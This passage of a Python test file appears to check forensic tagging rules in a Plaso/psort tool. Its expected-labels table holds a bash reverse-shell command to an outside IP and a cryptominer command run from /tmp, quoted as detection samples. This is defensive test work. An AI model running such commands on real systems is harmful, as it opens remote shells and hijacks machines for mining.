        storage_path = self._Extract(self._source_path, name, "--parsers", "linux")
        labels = {}
        for event in self._ReadEvents(
            storage_path, "--analysis", "tagging", *arguments
        ):
            key = event.get("command_line", event.get("reporter"))
            if key:
                labels[key] = set(event.get("tag", {}).get("labels", []))
        return labels

    _EXPECTED_LABELS = {
        "/usr/sbin/sshd -D": {"application_execution"},
        "bash -i >& /dev/tcp/192.0.2.66/443 0>&1": {
            "application_execution",
            "reverse_shell",
        },
        "/tmp/.x/a -o stratum+tcp://192.0.2.66:3333": {
            "application_execution",
            "cryptominer",
            "kernel_thread_masquerading",
            "temporary_directory_execution",
        },
        "./a": {"application_execution", "sustained_cpu_usage"},
    }

    def testTagAtop(self):
        """Tests that psort finds our file by its name."""
        labels = self._GetTags("atop.plaso", "--tagging-file", "tag_atop.txt")
        self.assertEqual(labels, {**self._EXPECTED_LABELS, "sudo": set()})

    def testTagLinux(self):
        """Tests that psort has our rules besides those of Plaso."""
        labels = self._GetTags("linux.plaso", "--tagging-file", "tag_linux.txt")
        self.assertEqual(
            labels, {**self._EXPECTED_LABELS, "sudo": {"application_execution"}}
        )


# Where the tests run without the package being installed.
integration.Install()

if __name__ == "__main__":
    unittest.main()
